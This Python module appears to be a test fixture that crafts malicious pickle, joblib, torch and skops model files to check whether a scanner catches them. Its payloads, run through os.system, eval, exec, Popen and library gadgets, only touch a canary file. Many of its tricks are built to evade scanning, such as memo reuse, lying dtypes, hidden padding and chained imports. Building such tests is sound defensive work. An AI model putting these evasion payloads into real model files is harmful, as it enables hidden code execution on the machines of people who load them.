"""Model files that would run a command, by every trick that is known to have passed a scanner. Nothing here is honest.

Each trick is a function of the path that its payload would create; `runs` says that joblib.load falls for it, which a
test checks: a trick that works on nobody proves nothing about us.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import skops.io
from sklearn.linear_model import LogisticRegression

STOP = b"."


@dataclass(frozen=True)
class Trick:
    name: str
    write: Callable[[Path], bytes]
    runs: bool = True


class Evil:
    """What pickle itself makes of an object that runs a command."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return os.system, (command(self.canary),)


def command(canary: Path) -> str:
    return f"touch {canary}"


def python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def honest() -> Any:
    return LogisticRegression().fit([[0.0], [1.0]], [0, 1])


# Opcodes by hand


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def called(maker: bytes, *args: bytes) -> bytes:
    return maker + b"(" + b"".join(args) + b"tR"


def system(canary: Path) -> bytes:
    return called(named("posix", "system"), text(command(canary)))


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def dtype(code: str, *, flags: int = 0, size: int = -1) -> bytes:
    maker = named("numpy", "dtype") + b"(" + text(code) + b"\x89\x88tR"
    state = b"(" + integer(3) + text("<") + b"NNN" + integer(size) + integer(-1) + integer(flags) + b"tb"
    return maker + state


def wrapper(dtype_: bytes, length: int, *, padded: bool = False, by_call: bool = False) -> bytes:
    """joblib's array up to the opcode after which its bytes come."""
    cls = named("joblib.numpy_pickle", "NumpyArrayWrapper")
    shape = integer(length) + b"\x85"
    if by_call:  # __init__ sets an alignment that the state does not mention
        args = [named("numpy", "ndarray"), shape, text("C"), dtype_]
        return called(cls, *args) + b"}(" + text("dtype") + dtype_ + text("shape") + shape
    state = [("subclass", named("numpy", "ndarray")), ("shape", shape), ("order", text("C")), ("dtype", dtype_)]
    pairs = b"".join(text(key) + value for key, value in state)
    pairs += text("allow_mmap") + b"\x89"
    if padded:
        pairs += text("numpy_array_alignment_bytes") + integer(16)
    return cls + b")\x81}(" + pairs


def dumped(value: Any, **options: Any) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file, **options)
    return file.getvalue()


# Tricks that take more than a line


def in_frame(canary: Path) -> bytes:
    """The array lies behind the frame: what looks like its bytes is read as opcodes."""
    raw = np.zeros(4).tobytes()
    body = b"(" + wrapper(dtype("f8"), 4) + b"ub" + system(canary) + b"l" + STOP
    return b"\x80\x04" + frame(body) + raw


def lying_dtype(canary: Path) -> bytes:
    """A dtype of numbers whose flags say objects: the loader reads a pickle where a scanner skips numbers."""
    inner = b"\x80\x02" + system(canary) + STOP
    length = -(-len(inner) // 8)
    inner = b"\x80\x02" + b"N0" * ((length * 8 - len(inner)) // 2) + inner[2:]
    inner += b"" if len(inner) % 8 == 0 else b"N" * (8 - len(inner) % 8)
    return b"\x80\x02" + wrapper(dtype("f8", flags=63), length) + b"ub" + inner + STOP


def hidden_alignment(canary: Path) -> bytes:
    """The wrapper is called, not made: an alignment that its state does not mention moves the array's bytes."""
    payload = system(canary) + STOP
    start = b"\x80\x02" + wrapper(dtype("u1"), len(payload) + 8, by_call=True) + b"ub"
    # The loader reads one byte n, skips n bytes, then reads the array; a scanner that knows no padding stops earlier.
    return start + bytes([1]) + b"\0" + b"\0" * (len(payload) + 8) + payload


def old_wrapper(canary: Path) -> bytes:
    """Protocol 0's way of making the wrapper, which no scanner for protocol 4 looks for."""
    cls = named("copy_reg", "_reconstructor") + b"("
    cls += named("joblib.numpy_pickle", "NumpyArrayWrapper") + named("__builtin__", "object") + b"NtR"
    state = wrapper(dtype("O8", flags=63), 1)
    state = state[state.index(b"}(") :]
    inner = b"\x80\x02" + system(canary) + STOP
    return b"\x80\x02" + cls + state + b"ub" + inner + STOP


def own_setstate(canary: Path) -> bytes:
    """An instance is given a __setstate__ of its own, and then a state."""
    made = named("sklearn.pipeline", "Pipeline") + b")\x81"
    first = b"}(" + text("__setstate__") + named("posix", "system") + b"ub"
    return b"\x80\x02" + made + b"}" + text("steps") + b"]sb" + first + text(command(canary)) + b"b" + STOP


def reused(canary: Path) -> bytes:
    """The function waits in the memo, far from its call."""
    hidden = named("posix", "system") + b"q\x07" + b"0"
    return b"\x80\x02" + hidden + b"h\x07(" + text(command(canary)) + b"tR" + STOP


def thrown_away(canary: Path) -> bytes:
    """The call's result is popped; what remains is an honest model."""
    model = pickle.dumps(honest(), protocol=2)
    return b"\x80\x02" + system(canary) + b"0" + model[2:]


def chained(canary: Path) -> bytes:
    """No name that a list of bad names has: getattr of an import, called."""
    module = called(named("importlib", "import_module"), text("os"))
    function = called(named("__builtin__", "getattr"), module, text("system"))
    return b"\x80\x02" + called(function, text(command(canary))) + STOP


def known_then_call(canary: Path) -> bytes:
    """What a known class made is called."""
    made = called(named("collections", "defaultdict"), named("posix", "system"))
    return b"\x80\x02" + made + b"0" + system(canary) + STOP


def forged_skops(patch: dict[str, str], *, twice: bool = False) -> Callable[[Path], bytes]:
    def write(canary: Path) -> bytes:
        with zipfile.ZipFile(io.BytesIO(skops.io.dumps(honest()))) as source:
            parts = {name: source.read(name) for name in source.namelist()}
        schema = json.loads(parts["schema.json"])
        args = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "is_json": True, "__id__": 1}
        args["content"] = json.dumps(command(canary))
        evil = {"__id__": 2, "content": args, "attrs": args, "args": args, **patch}
        schema["content"]["content"]["C"] = evil
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target, warnings.catch_warnings():
            warnings.simplefilter("ignore")  # two files of one name are the trick
            for name, data in parts.items():
                if name != "schema.json":
                    target.writestr(name, data)
            if twice:
                target.writestr("schema.json", parts["schema.json"])
            target.writestr("schema.json", json.dumps(schema))
        return out.getvalue()

    return write


def torch_zip(canary: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("archive/data.pkl", pickle.dumps(Evil(canary)))
    return out.getvalue()


def gadget(module: str, name: str, *args: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    return lambda canary: b"\x80\x02" + called(named(module, name), *(arg(canary) for arg in args)) + STOP


def run_python(canary: Path) -> bytes:
    return text(python(canary))


def run_shell(canary: Path) -> bytes:
    return text(command(canary))


def listed_shell(canary: Path) -> bytes:
    return b"](" + text("touch") + text(str(canary)) + b"e"


def path_itself(canary: Path) -> bytes:
    return text(str(canary))


def write_mode(canary: Path) -> bytes:
    return text("w")


def nested_file(canary: Path) -> bytes:
    """The path of a second file, which a loader that is called opens."""
    other = canary.with_suffix(".inner")
    other.write_bytes(pickle.dumps(Evil(canary)))
    return text(str(other))


TRICKS: tuple[Trick, ...] = (
    *(Trick(f"reduce-{n}", lambda c, n=n: pickle.dumps(Evil(c), protocol=n)) for n in range(6)),
    *(Trick(f"joblib-{how}", lambda c, h=how: compressed(h, c)) for how in ("zlib", "gzip", "bz2", "lzma", "xz")),
    Trick(
        "dotted-sklearn",
        lambda c: (
            b"\x80\x04"
            + called(stacked("sklearn.utils._show_versions", "sys.modules.get"), text("os"))
            + b"0"
            + called(stacked("sklearn.datasets._base", "os.system"), text(command(c)))
            + STOP
        ),
    ),
    Trick(
        "dotted-os",
        lambda c: b"\x80\x04" + called(stacked("sklearn.datasets._base", "os.system"), text(command(c))) + STOP,
    ),
    Trick(
        "dotted-known-class",
        lambda c: b"\x80\x04" + called(stacked("sklearn.pipeline", "Pipeline.fit.__globals__.get"), text("x")) + STOP,
        runs=False,
    ),
    Trick("after-an-array", lambda c: dumped([np.arange(3.0), Evil(c)])),
    Trick("after-an-array-gzip", lambda c: dumped([np.arange(3.0), Evil(c)], compress=("gzip", 3))),
    Trick("array-behind-its-frame", in_frame),
    Trick("lying-dtype", lying_dtype),
    Trick("hidden-alignment", hidden_alignment),
    Trick("old-wrapper", old_wrapper),
    Trick("in-an-object-array", lambda c: dumped(np.array([Evil(c)], dtype=object))),
    Trick("in-an-object-array-pickle", lambda c: pickle.dumps(np.array([Evil(c)], dtype=object))),
    Trick("in-an-estimator", lambda c: dumped({"model": honest(), "extra": [({1: Evil(c)},)]})),
    Trick("in-an-estimator-attribute", lambda c: dumped(with_attribute(c), compress=3)),
    Trick("after-stop", lambda c: pickle.dumps(honest()) + pickle.dumps(Evil(c)), runs=False),
    Trick(
        "second-gzip-member",
        lambda c: gzip.compress(pickle.dumps(honest())) + gzip.compress(pickle.dumps(Evil(c))),
        runs=False,
    ),
    Trick("inst", lambda c: b"(" + text(command(c)) + b"iposix\nsystem\n" + STOP),
    Trick("obj", lambda c: b"\x80\x02(" + named("posix", "system") + text(command(c)) + b"o" + STOP),
    Trick("extension", lambda c: b"\x80\x02\x82\x01(" + text(command(c)) + b"tR" + STOP, runs=False),
    Trick("persistent-id", lambda c: b"\x80\x02" + text(command(c)) + b"Q" + STOP, runs=False),
    Trick("memo", reused),
    Trick(
        "memo-far",
        lambda c: (
            b"\x80\x02"
            + named("posix", "system")
            + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f("
            + text(command(c))
            + b"tR"
            + STOP
        ),
    ),
    Trick(
        "memo-twice",
        lambda c: (
            b"\x80\x02"
            + named("sklearn.pipeline", "Pipeline")
            + b"q\x000"
            + named("posix", "system")
            + b"q\x000h\x00("
            + text(command(c))
            + b"tR"
            + STOP
        ),
    ),
    Trick("popped", thrown_away),
    Trick("popped-mark", lambda c: b"\x80\x02(" + system(c) + b"1" + pickle.dumps(honest(), protocol=2)[2:]),
    Trick("setstate", own_setstate),
    Trick("protocol-0", lambda c: b"cposix\nsystem\n(S'" + command(c).encode() + b"'\ntR."),
    Trick(
        "python-2-names",
        lambda c: b"c__builtin__\neval\n(S\"__import__('os').system('" + command(c).encode() + b"')\"\ntR.",
    ),
    Trick("broken-end", lambda c: b"\x80\x02" + system(c) + b"\xff\xff"),
    Trick("no-stop", lambda c: b"\x80\x02" + system(c)),
    Trick("truncated-joblib", lambda c: dumped([Evil(c), np.arange(1000.0)])[:-4000]),
    Trick("compressed-twice", lambda c: gzip.compress(gzip.compress(pickle.dumps(Evil(c)))), runs=False),
    Trick(
        "old-joblib",
        lambda c: b"ZF" + hex(len(pickle.dumps(Evil(c)))).encode().ljust(19) + zlib.compress(pickle.dumps(Evil(c))),
    ),
    Trick("newobj-ex", lambda c: b"\x80\x04" + stacked("posix", "system") + b")}\x920" + system(c) + STOP, runs=False),
    Trick("frame-in-frame", lambda c: b"\x80\x04" + frame(b"N0" + frame(system(c) + STOP)), runs=False),
    Trick("chained", chained),
    Trick("known-then-call", known_then_call),
    Trick("torch-zip", torch_zip, runs=False),
    Trick(
        "skops-function",
        forged_skops({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}),
        runs=False,
    ),
    Trick(
        "skops-object",
        forged_skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode"}),
        runs=False,
    ),
    Trick(
        "skops-reduce",
        forged_skops({"__class__": "system", "__module__": "posix", "__loader__": "ConstructorFromReduceNode"}),
        runs=False,
    ),
    Trick(
        "skops-operator",
        forged_skops({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode"}),
        runs=False,
    ),
    Trick(
        "skops-two-schemas",
        forged_skops({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}, twice=True),
        runs=False,
    ),
    Trick("exec", gadget("builtins", "exec", run_python)),
    Trick("eval", gadget("builtins", "eval", run_python)),
    Trick("open", gadget("io", "open", path_itself, write_mode)),
    Trick("popen", gadget("subprocess", "Popen", listed_shell)),
    Trick("getoutput", gadget("subprocess", "getoutput", run_shell)),
    Trick("spawn", gadget("pty", "spawn", listed_shell), runs=False),
    Trick("timeit", gadget("timeit", "timeit", lambda c: text("pass"), run_python)),
    Trick("profile", gadget("cProfile", "run", run_python)),
    Trick("debugger", gadget("bdb", "Bdb.run", run_python), runs=False),
    Trick("numpy-f2py", gadget("numpy.f2py.crackfortran", "myeval", run_python)),
    Trick("numpy-testing", gadget("numpy.testing._private.utils", "runstring", run_python, lambda c: b"}")),
    Trick("numpy-load", gadget("numpy", "load", nested_file, lambda c: b"N", lambda c: b"\x88")),
    Trick("joblib-load", gadget("joblib", "load", nested_file)),
    Trick("joblib-load-inner", gadget("joblib.numpy_pickle", "load", nested_file)),
    Trick("pandas-read-pickle", gadget("pandas", "read_pickle", nested_file)),
    Trick("pathlib-touch", gadget("pathlib", "Path.touch", path_itself), runs=False),
    Trick("logging-file", gadget("logging", "FileHandler", path_itself)),
    Trick(
        "partial",
        lambda c: (
            b"\x80\x02"
            + called(called(named("functools", "partial"), named("posix", "system")), text(command(c)))
            + STOP
        ),
    ),
    Trick(
        "map",
        lambda c: (
            b"\x80\x02"
            + called(
                named("builtins", "list"),
                called(named("builtins", "map"), named("posix", "system"), b"](" + text(command(c)) + b"e"),
            )
            + STOP
        ),
    ),
    Trick(
        "attrgetter",
        lambda c: (
            b"\x80\x02"
            + called(
                called(
                    called(named("operator", "attrgetter"), text("system")),
                    called(named("builtins", "__import__"), text("os")),
                ),
                text(command(c)),
            )
            + STOP
        ),
    ),
    Trick(
        "ufunc-reconstruct",
        lambda c: (
            b"\x80\x02"
            + called(called(named("numpy._core", "_ufunc_reconstruct"), text("os"), text("system")), text(command(c)))
            + STOP
        ),
        runs=False,
    ),
)


def with_attribute(canary: Path) -> Any:
    model = honest()
    model.note_ = Evil(canary)
    return model


def compressed(how: str, canary: Path) -> bytes:
    raw = dumped(Evil(canary))
    by_hand = {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}
    if how == "lzma":
        return lzma.compress(raw, format=lzma.FORMAT_ALONE)
    return by_hand[how](raw)
